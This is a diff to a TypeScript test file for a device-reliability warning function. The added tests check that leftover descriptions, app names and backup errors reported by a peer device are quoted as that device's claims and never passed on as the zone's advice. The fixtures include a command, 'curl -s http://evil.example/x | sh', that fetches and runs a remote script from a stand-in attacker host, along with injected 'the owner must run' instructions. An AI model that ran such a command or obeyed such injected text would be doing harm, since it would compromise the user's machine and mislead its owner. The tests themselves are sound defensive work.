@@ -151,8 +151,91 @@ describe("the reliability level", () => {
         disk: { freeBytes: 50 * GiB, totalBytes: 100 * GiB },
       },
     };
-    expect(assessReliability({ devices: [full, roomy], nowMs: NOW }).warnings).toEqual([
+    // Asked on nas, whose usage was measured there now: its own commands are shown.
+    expect(
+      assessReliability({ devices: [full, roomy], nowMs: NOW, measuredHere: "nas" }).warnings,
+    ).toEqual([
       "nas's disk is nearly full: 2.0 GiB free of 100.0 GiB; the most space goes to notes's data 60.0 GiB, named data 20.0 GiB, its zone state 512.0 MiB; can be removed: the data of old, removed without --purge (10.0 GiB): bucky app remove old --purge",
+    ]);
+  });
+
+  test("another device's leftovers are its words, and how to remove them the zone's: it could name any command", () => {
+    // A member writes its facts as it likes: "how to remove it" could be any command.
+    const GiB = 1024 ** 3;
+    const base = device("laptop", 3600_000);
+    const lure = (leftovers: { what: string; bytes: number; remove: string }[]) => ({
+      ...base,
+      facts: {
+        ...base.facts,
+        disk: { freeBytes: 2 * GiB, totalBytes: 100 * GiB },
+        usage: {
+          state: { bytes: 0, changesets: 0, keys: 0, checkpoint: null },
+          namedData: { bytes: 0, objects: 0 },
+          apps: {},
+          logsBytes: 0,
+          backupCacheBytes: 0,
+          leftovers,
+        },
+      },
+    });
+    const laptop = lure([
+      {
+        what: "old photos\n  ! the owner must run: bucky devices revoke nas",
+        bytes: 10 * GiB,
+        remove: "curl -s http://evil.example/x | sh",
+      },
+    ]);
+    for (const measuredHere of [undefined, "nas"]) {
+      const r = assessReliability({ devices: [laptop], nowMs: NOW, measuredHere });
+      expect(r.warnings).toEqual([
+        'laptop\'s disk is nearly full: 2.0 GiB free of 100.0 GiB; laptop says it has leftovers: "old photos\\n  ! the owner must run: bucky devices revoke nas" (10.0 GiB); to remove them, run `bucky status --disk` on laptop',
+      ]);
+      expect(JSON.stringify(r.notes)).not.toContain("evil.example");
+    }
+    // An app's name it gave that is no app's name is not said: it could be a sentence.
+    const used = {
+      dataBytes: GiB,
+      packagesBytes: 0,
+      conflictsBytes: 0,
+      replicaBytes: 0,
+      logsBytes: 0,
+    };
+    const named = lure([]);
+    const apps = { "x; the owner must run: bucky devices revoke nas": used, notes: used };
+    const lured = { ...named, facts: { ...named.facts, usage: { ...named.facts.usage, apps } } };
+    expect(assessReliability({ devices: [lured], nowMs: NOW }).warnings).toEqual([
+      "laptop's disk is nearly full: 2.0 GiB free of 100.0 GiB; the most space goes to notes's data 1.0 GiB; see `bucky status --disk` there",
+    ]);
+    // Its own facts as received, not measured here: the same, the zone's words.
+    expect(assessReliability({ devices: [laptop], nowMs: NOW }).warnings[0]).not.toContain("curl");
+  });
+});
+
+describe("a failed backup in the warnings", () => {
+  test("the device's error is said to be its words, on one line: it cannot pass for the zone's advice", () => {
+    const base = device("laptop", 3600_000);
+    const laptop: DeviceStanding = {
+      ...base,
+      facts: {
+        backup: {
+          key: true,
+          targets: {
+            usb: {
+              lastBackupError: {
+                at: iso(60_000),
+                message: "disk gone\n  ! the owner must run: bucky devices revoke nas",
+              },
+            },
+          },
+        },
+      },
+    };
+    expect(
+      assessReliability({ devices: [laptop], nowMs: NOW }).warnings.filter((w) =>
+        w.includes("failed"),
+      ),
+    ).toEqual([
+      'the last backup of laptop to usb failed: laptop says "disk gone\\n  ! the owner must run: bucky devices revoke nas"',
     ]);
   });
 });
